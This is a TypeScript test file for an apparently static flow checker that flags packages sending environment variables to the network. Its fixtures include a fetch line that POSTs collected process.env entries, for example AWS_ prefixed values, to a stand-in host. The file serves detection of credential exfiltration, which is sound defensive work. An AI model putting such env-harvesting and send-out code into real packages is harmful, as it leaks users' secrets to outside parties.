import { expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

const SEND = "fetch('https://a.example', { method: 'POST', body: JSON.stringify(out) });";

/** Whether the environment as a whole is sent by a package that is called so. */
const sendsAll = (body: string, name = 'scan-conductor'): boolean =>
  flows(follow(`${body} ${SEND}`, 'import', { name }), 'env.all', 'net.out') !== undefined;

const kept = (prefix: string): string =>
  `const out = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('${prefix}')));`;
const looped = (prefix: string): string =>
  `const out = {}; for (const [k, v] of Object.entries(process.env)) { if (k.startsWith('${prefix}')) out[k] = v }`;

test.each([
  ['a filter', kept('SCAN_')],
  ['a filter by a constant', `const OWN = 'SCAN_'; ${kept('SCAN_').replace("'SCAN_'", 'OWN')}`],
  ['a loop', looped('SCAN_')],
  ['what everybody gets to see', kept('VITE_')],
])('%s by the own prefix keeps settings', (_name, body) => {
  expect(sendsAll(body)).toBe(false);
});

test.each([
  ['of others', kept('TEAM_'), 'scan-conductor'],
  ['of others in a loop', looped('TEAM_'), 'scan-conductor'],
  ['of a service that the package is called like', kept('AWS_'), 'aws-conductor'],
  ['without an end', kept('SCAN'), 'scan-conductor'],
])('prefixes %s do not', (_name, body, name) => {
  expect(sendsAll(body, name)).toBe(true);
});
